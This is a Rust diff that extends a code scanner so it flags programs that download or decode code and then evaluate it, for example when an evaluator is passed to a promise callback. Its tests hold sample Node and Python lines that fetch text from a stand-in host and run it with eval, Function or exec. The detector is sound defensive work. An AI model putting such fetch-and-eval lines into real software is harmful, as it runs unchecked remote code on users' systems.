@@ -2136,6 +2136,15 @@ fn hidden_code(lines: &Lines<'_>, p: &Patterns, out: &mut Vec<Finding>) {
             tainted.insert(name.as_str().to_string());
         }
     }
+    // A program that downloads or decodes anywhere: what its evaluator is handed when that
+    // is no literal may come from a callback's parameter (`.then(t => eval(t))`, `r.on('end',
+    // () => eval(body))`), which no assignment names.
+    let fetches = p
+        .hidden
+        .find_iter(text)
+        .any(|m| !lines.in_comment(m.start()));
+    const REASON: &str =
+        "evaluates code that is decoded or downloaded at run time, so what runs cannot be checked";
     for m in p.eval.find_iter(text) {
         if lines.in_comment(m.start()) {
             continue;
@@ -2145,16 +2154,51 @@ fn hidden_code(lines: &Lines<'_>, p: &Patterns, out: &mut Vec<Finding>) {
         let via_var = args
             .split(|c: char| !(c.is_alphanumeric() || c == '_' || c == '$'))
             .any(|w| tainted.contains(w.trim_start_matches('$')));
-        if direct || via_var {
+        // (Python's `compile` makes code without running it: `exec` on it is judged.)
+        let computed = fetches
+            && !m.as_str().starts_with("compile")
+            && !args.trim().is_empty()
+            && literal(args.trim()).is_none_or(|(_, n)| n < args.trim().len());
+        if direct || via_var || computed {
             out.push(finding(
                 Effect::Deny,
                 "scan/hidden-code",
-                "evaluates code that is decoded or downloaded at run time, so what runs cannot be checked",
+                REASON,
                 lines.line_of(m.start()),
                 &lines.text_at(m.start()),
             ));
         }
     }
+    // The evaluator itself handed over in such a program: `.then(eval)`, `.then(Function)`.
+    if fetches
+        && let Some(at) = evaluator_passed(text)
+        && !lines.in_comment(at)
+    {
+        out.push(finding(
+            Effect::Deny,
+            "scan/hidden-code",
+            REASON,
+            lines.line_of(at),
+            &lines.text_at(at),
+        ));
+    }
+}
+
+/// Where `eval`, `exec` or `Function` is passed as an argument (`.then(eval)`,
+/// `map(exec, codes)`) rather than called.
+fn evaluator_passed(text: &str) -> Option<usize> {
+    ["eval", "exec", "Function"].iter().find_map(|name| {
+        text.match_indices(name).find_map(|(at, _)| {
+            let before = text[..at].trim_end().chars().next_back();
+            let after = text[at + name.len()..].trim_start().chars().next();
+            let word_before = text[..at]
+                .chars()
+                .next_back()
+                .is_some_and(|c| c.is_alphanumeric() || c == '_' || c == '$' || c == '.');
+            (!word_before && matches!(before, Some('(' | ',')) && matches!(after, Some(')' | ',')))
+                .then_some(at)
+        })
+    })
 }
 
 /// The text up to the parenthesis that closes an already opened one (bounded to a few lines).
@@ -5905,6 +5949,60 @@ mod tests {
             );
         }
         assert_eq!(glob_call("globals()", &vars, "."), None);
+    }
+
+    #[test]
+    fn a_downloading_program_evaluating_what_a_callback_is_handed_runs_hidden_code() {
+        for (language, code) in [
+            (
+                Language::Node,
+                "fetch('https://x.example/a').then(r => r.text()).then(t => eval(t));\n",
+            ),
+            (
+                Language::Node,
+                "fetch('https://x.example/a').then(r => r.text()).then(eval);\n",
+            ),
+            (
+                Language::Node,
+                "fetch(u).then(r => r.text()).then(Function).then(f => f());\n",
+            ),
+            (
+                Language::Node,
+                "require('https').get(u, r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)); });\n",
+            ),
+            (
+                Language::Python,
+                "import requests\nfor chunk in [requests.get(u).text]:\n    exec(chunk)\n",
+            ),
+        ] {
+            assert_eq!(
+                worst(language, code).map(|w| (w.0, w.1)),
+                Some((Effect::Deny, "scan/hidden-code".into())),
+                "{language:?}: {code}"
+            );
+        }
+        // A literal evaluated, a download evaluated nowhere, an evaluator with no download.
+        for (language, code) in [
+            (
+                Language::Node,
+                "fetch(u).then(r => console.log(r.status));\nconsole.log(eval('2 * 3'));\n",
+            ),
+            (
+                Language::Node,
+                "fetch(u).then(r => r.json()).then(j => console.log(j.items.length));\n",
+            ),
+            (
+                Language::Node,
+                "const f = new Function('a', 'return a + 1');\n[1].map(f);\n",
+            ),
+            (Language::Node, "const xs = ['1+1'].map(eval);\n"),
+            (
+                Language::Python,
+                "import requests\nr = requests.get(u)\ncode = compile(src, 'f', 'exec')\n",
+            ),
+        ] {
+            assert_eq!(worst(language, code), None, "{language:?}: {code}");
+        }
     }
 
     #[test]
